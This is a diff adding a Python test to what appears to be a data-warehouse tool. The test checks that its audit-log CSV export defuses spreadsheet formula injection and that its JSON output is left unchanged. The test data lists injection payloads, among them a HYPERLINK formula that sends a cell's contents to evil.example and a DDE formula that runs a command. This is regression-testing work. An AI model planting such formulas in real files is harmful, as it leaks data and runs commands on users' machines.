@@ -252,3 +252,39 @@ def test_a_password_in_a_tracking_uri_is_never_printed(
     assert "postgres://app:***@127.0.0.1:1/mlflow" in captured.err
     assert len(captured.err.strip().splitlines()) == 1, captured.err
 
+
+
+# Before: `audit log --format csv` (the export auditors open in a spreadsheet) wrote a reason
+# or an actor as given: `--reason "=HYPERLINK(...)"` became a live formula in the auditor's
+# sheet. The JSON output keeps the text as it is.
+
+_FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1)", "+cmd|' /C calc'!A0",
+             "-2+3", "@SUM(A1:A9)"]
+
+
+@pytest.mark.parametrize("warehouse_url", ["sqlite"], indirect=True)
+def test_the_audit_csv_export_holds_no_formula(
+    puhui_env: Path, warehouse_url: str, monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    import csv
+    import io
+    import json
+
+    from puhui.audit import AuditWriter
+    from puhui.warehouse.engine import get_engine
+    from tests.conftest import TEST_AUDIT_KEY
+
+    monkeypatch.setenv("PUHUI_WAREHOUSE_URL", warehouse_url)
+    engine = get_engine(warehouse_url)
+    for formula in _FORMULAS:
+        writer = AuditWriter(actor=formula, config_hash="cfg", code_version="abc",
+                             key=TEST_AUDIT_KEY.encode())
+        writer.record(engine, "quarantine.released", "mobile_payments-20260930-aaaa",
+                      {"reason": formula})
+    capsys.readouterr()
+    assert main(["audit", "log", "--format", "csv"]) == 0
+    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    assert [(r["actor"], r["reason"]) for r in rows] == [("'" + f, "'" + f) for f in _FORMULAS]
+    assert main(["audit", "log", "--json"]) == 0
+    assert [e["actor"] for e in json.loads(capsys.readouterr().out)] == _FORMULAS
